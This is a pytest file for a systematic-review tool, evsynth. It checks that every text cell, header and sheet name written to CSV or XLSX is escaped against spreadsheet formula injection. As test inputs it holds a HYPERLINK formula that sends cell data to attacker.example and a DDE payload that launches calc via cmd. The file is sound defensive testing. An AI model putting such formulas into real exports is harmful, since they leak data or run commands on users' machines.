"""Formulas (issue 17, item 6): no text from a review runs in a spreadsheet.

Every text cell evsynth writes to CSV or XLSX, headers and sheet names
included, that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return gets a leading apostrophe; numbers stay numbers; no workbook holds a
formula cell.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook

from evsynth.io import (
    FORMULA_PREFIXES,
    frame_to_csv,
    guard_formula,
    write_frame_xlsx,
    write_workbook,
)
from tests.hostile.conftest import evsynth

HYPERLINK = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _unguarded(text: str) -> bool:
    return text.startswith(FORMULA_PREFIXES) and not _number(text)


def unsafe_cells(folder: Path) -> list[str]:
    """Every CSV cell, XLSX cell or sheet name under ``folder`` a spreadsheet runs."""
    found = []
    for path in sorted(folder.rglob("*.csv")):
        with path.open(encoding="utf-8", newline="") as handle:
            for line, row in enumerate(csv.reader(handle), start=1):
                found += [f"{path}:{line}: {c!r}" for c in row if _unguarded(c)]
    for path in sorted(folder.rglob("*.xlsx")):
        book = load_workbook(path)
        for sheet in book.worksheets:
            if _unguarded(sheet.title):
                found.append(f"{path}: sheet {sheet.title!r}")
            for row in sheet.iter_rows():
                for cell in row:
                    value = cell.value
                    if cell.data_type == "f" or (
                        isinstance(value, str) and _unguarded(value)
                    ):
                        found.append(f"{path}!{sheet.title}!{cell.coordinate}")
    return found


def test_guard_keeps_numbers() -> None:
    assert guard_formula("-1.5") == "-1.5"
    assert guard_formula(-1.5) == -1.5
    assert guard_formula("+3") == "+3"
    assert guard_formula("-") == "'-"
    assert guard_formula("=1+1") == "'=1+1"
    assert guard_formula("'=1+1") == "'=1+1"  # guarded once only
    assert guard_formula("\tx") == "'\tx"


def test_csv_and_xlsx_headers_are_guarded(tmp_path: Path) -> None:
    """Headers, cells and sheet names; numbers (negative ones too) stay numbers."""
    frame = pd.DataFrame(
        {HYPERLINK: ["=1+1", "plain"], "@sum": [-1.5, 2.0], "-3": ["-3", "+x"]}
    )
    frame_to_csv(frame, tmp_path / "t.csv")
    write_frame_xlsx(frame, tmp_path / "t.xlsx", sheet="=sheet")
    assert unsafe_cells(tmp_path) == []
    text = (tmp_path / "t.csv").read_text(encoding="utf-8").splitlines()
    assert text[0].startswith("\"'=HYPERLINK(")
    assert text[1] == "'=1+1,-1.5,-3"
    sheet = load_workbook(tmp_path / "t.xlsx").worksheets[0]
    assert sheet.title == "_sheet"
    assert sheet["A1"].value == "'" + HYPERLINK
    assert sheet["B2"].value == -1.5 and sheet["B2"].data_type == "n"
    assert sheet["A2"].value == "'=1+1"


def test_workbook_written_by_hand_is_guarded(tmp_path: Path) -> None:
    """write_workbook guards any workbook, even cells set to formulas directly."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet["A1"] = "=SUM(1,2)"
    sheet["A2"] = -4
    sheet["A3"] = "@cmd"
    assert sheet["A1"].data_type == "f"
    write_workbook(book, tmp_path / "hand.xlsx")
    assert unsafe_cells(tmp_path) == []
    again = load_workbook(tmp_path / "hand.xlsx").active
    assert again is not None
    assert again["A1"].value == "'=SUM(1,2)" and again["A2"].value == -4


def _replace(path: Path, old: str, new: str, count: int = 1) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, (path, old)
    path.write_text(text.replace(old, new, count), encoding="utf-8")


@pytest.mark.workflow
def test_formulas_in_a_review_stay_text(example: Path) -> None:
    """Formulas in headers, cells, notes, titles and labels: all guarded in results/.

    One whole run of the example with a formula wherever a user's text reaches
    an output: a studies.csv header and cell, an effect row's outcome, a
    screening note, a record title in a search export, an analysis label and the
    review title.
    """
    data = example / "data"
    studies = data / "studies.csv"
    frame = pd.read_csv(studies, dtype=str, keep_default_na=False)
    frame.loc[frame.index[0], "programme"] = HYPERLINK
    frame.loc[frame.index[1], "country"] = "@SUM(1,1)"
    frame[HYPERLINK] = ""  # an extra column whose header is a formula
    frame.to_csv(studies, index=False)
    _replace(
        data / "extraction" / "effects.csv",
        "Multi-informant mental-health problems factor",
        "=1+1 mental-health problems",
    )
    decisions = data / "screening" / "decisions.csv"
    lines = decisions.read_text(encoding="utf-8").splitlines()
    first = lines[1].split(",")
    first[5] = "+cmd|' /C calc'!A0"  # the note column
    lines[1] = ",".join(first)
    decisions.write_text("\n".join(lines) + "\n", encoding="utf-8")
    _replace(
        data / "searches" / "psycinfo_ovid.ris",
        "T1  - Fostering Healthy Futures",
        "T1  - =HYPERLINK(1) Fostering Healthy Futures",
    )
    config = example / "config" / "config.yaml"
    _replace(config, "label: Mental health", "label: '=Mental health'")
    _replace(config, "review_title: >-\n  Mentoring", "review_title: >-\n  @Mentoring")

    proc = evsynth("run", str(example))
    if proc.returncode == 2 or "evsynth: error" in proc.stderr:
        # a stricter reader refusing one of the spoilt inputs is fine, but say so
        pytest.fail(f"the spoilt example was refused: {proc.stderr[-2000:]}")
    assert proc.returncode == 0, proc.stderr[-3000:]
    results = example / "results"
    assert (results / "report" / "tables.xlsx").is_file()
    assert unsafe_cells(results) == []
    # the formulas did reach the outputs (guarded), so the test tests something
    csv_text = "".join(
        p.read_text(encoding="utf-8") for p in sorted(results.rglob("*.csv"))
    )
    assert "'=1+1 mental-health problems" in csv_text
    assert "'=HYPERLINK(1) Fostering" in csv_text
    book = load_workbook(results / "report" / "tables.xlsx")
    texts = {
        str(c.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for c in row
        if isinstance(c.value, str)
    }
    assert "'@Mentoring and befriending" in " ".join(texts)
    assert any(t.startswith("'=HYPERLINK(\"http") for t in texts)
